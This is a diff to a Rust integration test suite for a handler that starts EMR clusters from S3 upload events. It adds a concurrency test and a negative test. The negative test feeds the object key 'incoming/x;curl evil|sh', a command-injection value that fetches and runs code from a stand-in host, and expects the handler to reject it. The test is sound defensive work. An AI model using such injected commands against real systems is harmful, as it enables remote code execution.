@@ -13,7 +13,7 @@ use sparkhub_tests::{LocalAws, unique, wait_for};
 const TUTORIAL: &str = include_str!("../../profiles/tutorial.toml");
 const RETRAIN: &str = include_str!("../../profiles/retrain.toml");
 
-type Handler = CreateCluster<S3Bucket, S3Bucket, StepFunctions, Emr>;
+type Handler = CreateCluster<S3Bucket, S3Bucket, StepFunctions, Emr, S3Bucket>;
 
 struct Setup {
     aws: LocalAws,
@@ -223,6 +223,11 @@ async fn bad_input_is_a_clear_error_and_starts_nothing() {
         CreateError::BadEvent(_)
     ));
 
+    let mut unsafe_key = event("create-cluster-s3-object-created.json");
+    unsafe_key["detail"]["object"]["key"] = json!("incoming/x;curl evil|sh");
+    let err = s.handler.handle(unsafe_key).await.unwrap_err();
+    assert!(matches!(err, CreateError::UnsafeObjectKey { .. }), "{err}");
+
     let mut created = event("create-cluster-s3-object-created.json");
     created["detail"]["bucket"]["name"] = json!(unique("nobody-watches"));
     assert!(matches!(
@@ -241,5 +246,45 @@ async fn bad_input_is_a_clear_error_and_starts_nothing() {
     assert!(
         s.aws.keys(&s.bucket, "scripts/").await.is_empty(),
         "no script was uploaded"
+    );
+}
+
+/// Fifty objects uploaded at once: fifty invocations at the same moment, each
+/// of which would see no cluster. With `max_active_clusters = 1` one run
+/// starts; the others see it (through the lease, the running execution or its
+/// cluster) and are skipped.
+#[tokio::test]
+async fn fifty_concurrent_invocations_start_one_run() {
+    let profile = unique("burst");
+    let s = setup(&[(&profile, renamed(TUTORIAL, &profile))]).await;
+    let handler = std::sync::Arc::new(s.handler);
+    let began = std::time::Instant::now();
+    let mut tasks = tokio::task::JoinSet::new();
+    for i in 0..50 {
+        let handler = handler.clone();
+        let profile = profile.clone();
+        tasks.spawn(async move {
+            handler
+                .handle(json!({"profile": profile, "run_id": format!("upload-{i}")}))
+                .await
+        });
+    }
+    let (mut started, mut skipped) = (0, 0);
+    while let Some(outcome) = tasks.join_next().await {
+        match outcome.unwrap() {
+            Ok(Outcome::Started { .. }) => started += 1,
+            Ok(Outcome::Skipped { .. }) => skipped += 1,
+            other => panic!("{other:?}"),
+        }
+    }
+    eprintln!(
+        "50 concurrent invocations: {started} started, {skipped} skipped in {:?}",
+        began.elapsed()
+    );
+    assert_eq!((started, skipped), (1, 49));
+    assert_eq!(
+        s.aws.executions(&s.machine).await.len(),
+        1,
+        "exactly one execution"
     );
 }
